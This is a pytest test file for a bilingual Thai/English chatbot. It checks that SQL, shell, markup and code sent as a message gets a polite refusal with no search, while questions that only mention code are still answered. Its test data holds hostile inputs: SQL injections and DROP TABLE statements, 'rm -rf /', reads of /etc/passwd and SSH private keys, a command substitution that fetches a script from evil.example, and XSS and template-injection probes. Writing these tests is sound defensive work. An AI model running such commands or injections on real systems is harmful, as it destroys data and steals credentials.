"""Code sent as a question (SQL, a shell command, markup, program source) is no question.

The fault: "SELECT * FROM updates; DROP TABLE updates" and "' OR 1=1 --" were searched
for their words and answered about "updates".  Now every path that answers or searches
(the chat core's plain text, ``/ask`` and ``/search``, the console, ``sdgbot ask`` and
``sdgbot search``) says politely that the text is not read as a question: Thai first,
English for a user who writes English (code's letters tell no language), never an
answer built from its tokens.  A question with a tag or a code word in it is still
answered.
"""

from __future__ import annotations

import datetime as dt
import io
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from field_harness import Chat, Clock

from bot.adapters.console import _loop
from bot.answering import Answerer
from bot.code_input import code_kind
from bot.conversation.lang import told_language
from bot.core import Core
from bot.structured import answer_structured

NOW = dt.datetime(2023, 2, 15, 3, 0, tzinfo=dt.UTC)  # 2/2566 in Bangkok
OFFICER = "telegram:7701"
THAI = re.compile(r"[\u0e01-\u0e4e]")
SAYS_TH = "ไม่ใช่คำถาม จึงไม่ได้ค้นหาหรือตอบจากข้อความนี้"
SAYS_EN = "not a question, so I did not search or answer it"

#: Hostile inputs, with the kind of code each is.
CODE = [
    ("SELECT * FROM updates; DROP TABLE updates", "sql"),
    ("' OR 1=1 --", "sql"),
    ("admin' --", "sql"),
    ("1; DROP TABLE users", "sql"),
    ("' or 'a'='a", "sql"),
    ("SELECT count(*) FROM projects", "sql"),
    ("UNION SELECT password FROM users", "sql"),
    ("UPDATE updates SET amount_baht=0", "sql"),
    ("rm -rf / ; cat /etc/passwd", "shell"),
    ("$(curl http://evil.example/x.sh)", "shell"),
    ("ls -la && cat ~/.ssh/id_rsa", "shell"),
    ("<script>alert('x')</script>", "markup"),
    ("<div onclick=\"x()\">waste bank</div>", "markup"),
    ("{{7*7}}", "markup"),
    ("import os; os.system('ls')", "code"),
    ("console.log(document.cookie)", "code"),
]
#: Questions that hold a tag, a code word or a symbol: still questions.
QUESTIONS = [
    "<script>alert('x')</script> ธนาคารขยะตั้งแล้วกี่แห่ง",
    "<b>งบ</b>ประมาณเท่าไร",
    "<b>How many waste banks are there?</b>",
    "How were the pilot provinces selected from the 76 provinces?",
    "What is SELECT in SQL?",
    "What does rm -rf do?",
    "ธนาคารขยะตั้งแล้วกี่แห่ง",
    "=SUM(A1:A10)",  # a formula: the calculation guidance, as before
]


@pytest.mark.parametrize(("text", "kind"), CODE)
def test_code_is_told_from_a_question(text: str, kind: str) -> None:
    assert code_kind(text) == kind
    assert told_language(text) is None  # SQL's letters are no English


@pytest.mark.parametrize("text", QUESTIONS)
def test_a_question_with_code_in_it_is_no_code(text: str) -> None:
    assert code_kind(text) is None


@pytest.mark.parametrize(("text", "kind"), CODE)
def test_the_answerer_answers_no_code(seed_app: Any, text: str, kind: str) -> None:
    answerer = Answerer(seed_app.db, seed_app.index)
    ans = answerer.ask(text)
    assert not ans.found and not ans.sources and SAYS_TH in ans.point, ans.point
    assert ans.render().startswith("ข้อความนี้ดูเหมือน"), ans.render()
    assert SAYS_EN in answerer.ask(text, english=True).point
    assert answerer.search(text) == []
    assert answer_structured(seed_app.db, text) is None


def test_questions_with_code_words_are_still_answered(seed_app: Any) -> None:
    answerer = Answerer(seed_app.db, seed_app.index)
    for text in QUESTIONS:
        assert answerer.ask(text).debug.get("reason") != "code", text
    assert answerer.ask("<script>alert('x')</script> ธนาคารขยะตั้งแล้วกี่แห่ง").found


@pytest.fixture
def chat(make_app: Callable[..., Any]) -> Chat:
    return Chat.with_users(make_app(), Clock(NOW), {OFFICER: "officer"})


@pytest.mark.parametrize("prefix", ["", "/ask ", "/search "])
@pytest.mark.parametrize("text", ["SELECT * FROM updates; DROP TABLE updates", "' OR 1=1 --",
                                  "rm -rf / ; cat /etc/passwd"])
def test_chat_paths_reply_politely_thai_first(chat: Chat, prefix: str, text: str) -> None:
    reply = chat.say(OFFICER, prefix + text)
    assert reply.startswith("ข้อความนี้ดูเหมือน") and SAYS_TH in reply, reply
    assert "ที่มา" not in reply and "updates" not in reply.lower(), reply


@pytest.mark.parametrize("prefix", ["", "/ask ", "/search "])
def test_chat_paths_reply_in_english_to_an_english_writer(chat: Chat, prefix: str) -> None:
    chat.say(OFFICER, "How many waste banks are there?")  # the user writes English
    reply = chat.say(OFFICER, prefix + "SELECT * FROM updates; DROP TABLE updates")
    assert SAYS_EN in reply and not THAI.search(reply), reply
    # The code told no language: the next message without letters is still English.
    assert not THAI.search(chat.say(OFFICER, "1"))


def test_an_update_of_code_is_refused(chat: Chat) -> None:
    reply = chat.say(OFFICER, "/update 1 '; DROP TABLE progress_updates; --")
    assert "ดูเหมือนโค้ด" in reply and "ยังไม่ได้บันทึก" in reply, reply
    chat.nothing_stored()


def test_console(chat: Chat) -> None:
    core = Core(chat.app.db, chat.app.index, clock=chat.clock)
    chat.register("console:c1", "staff")
    out = io.StringIO()
    _loop(core, "c1", io.StringIO("' OR 1=1 --\n/search SELECT * FROM updates\n"), out)
    text = out.getvalue()
    assert text.count(SAYS_TH) == 2 and "ที่มา" not in text, text


def test_command_line(run: Callable[..., Any], tmp_path: Path) -> None:
    home = tmp_path / "home"
    asked = run(home, "ask", "SELECT * FROM updates; DROP TABLE updates", "--json").json()
    assert not asked["found"] and asked["sources"] == [] and SAYS_TH in asked["answer"]
    found = run(home, "search", "SELECT * FROM updates; DROP TABLE updates", "--json").json()
    assert found["hits"] == []
    shown = run(home, "search", "' OR 1=1 --").out
    assert SAYS_TH in shown, shown
